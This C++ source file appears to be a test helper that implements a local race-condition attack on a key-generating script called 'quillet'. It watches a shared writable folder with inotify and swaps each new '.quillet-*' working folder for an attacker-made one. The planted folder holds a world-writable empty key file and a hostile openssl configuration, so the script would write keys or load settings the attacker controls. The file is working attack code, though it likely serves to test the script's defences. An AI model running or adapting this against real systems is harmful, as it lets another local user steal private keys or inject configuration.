// Another local user's attack on a run of the generator script in a folder that user can write
// to: the moment a working folder ".quillet-*" appears, rename it away and put a folder of the
// attacker's own in its place, with an empty world-writable key file and an openssl
// configuration waiting for the script to use them.
//
//   quillet_swap_attacker FOLDER
//
// Prints "ready" once it watches FOLDER, then one "swapped NAME" line per working folder it
// replaced, until it is killed.
#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <set>
#include <string>

namespace {

void Plant(const std::string& path, const char* text) {
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
    if (fd < 0)
        return;
    ::fchmod(fd, 0666);
    const ssize_t ignored = ::write(fd, text, std::strlen(text));
    (void)ignored;
    ::close(fd);
}

} // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: %s FOLDER\n", argv[0]);
        return 2;
    }
    const std::string folder = argv[1];
    const int watch = ::inotify_init1(IN_CLOEXEC);
    if (watch < 0 || ::inotify_add_watch(watch, folder.c_str(), IN_CREATE) < 0) {
        std::fprintf(stderr, "cannot watch %s: %s\n", folder.c_str(), std::strerror(errno));
        return 1;
    }
    ::umask(0);
    std::printf("ready\n");
    std::fflush(stdout);

    std::set<std::string> planted; // the attacker's own folders, which raise events too
    alignas(inotify_event) char buffer[64 * 1024];
    for (;;) {
        const ssize_t length = ::read(watch, buffer, sizeof buffer);
        if (length < 0 && errno == EINTR)
            continue;
        if (length <= 0)
            return 1;
        for (ssize_t at = 0; at < length;) {
            const auto* event = reinterpret_cast<const inotify_event*>(buffer + at);
            at += static_cast<ssize_t>(sizeof(inotify_event) + event->len);
            if (event->len == 0 || (event->mask & IN_ISDIR) == 0)
                continue;
            const std::string name = event->name;
            if (name.rfind(".quillet-", 0) != 0 || !planted.insert(name).second)
                continue;
            const std::string victim = folder + "/" + name;
            if (::rename(victim.c_str(), (folder + "/.stolen" + name).c_str()) != 0 ||
                ::mkdir(victim.c_str(), 0777) != 0)
                continue;
            Plant(victim + "/new.key", "");
            Plant(victim + "/openssl.cnf", "openssl_conf = attacker\n[attacker]\n");
            std::printf("swapped %s\n", name.c_str());
            std::fflush(stdout);
        }
    }
}
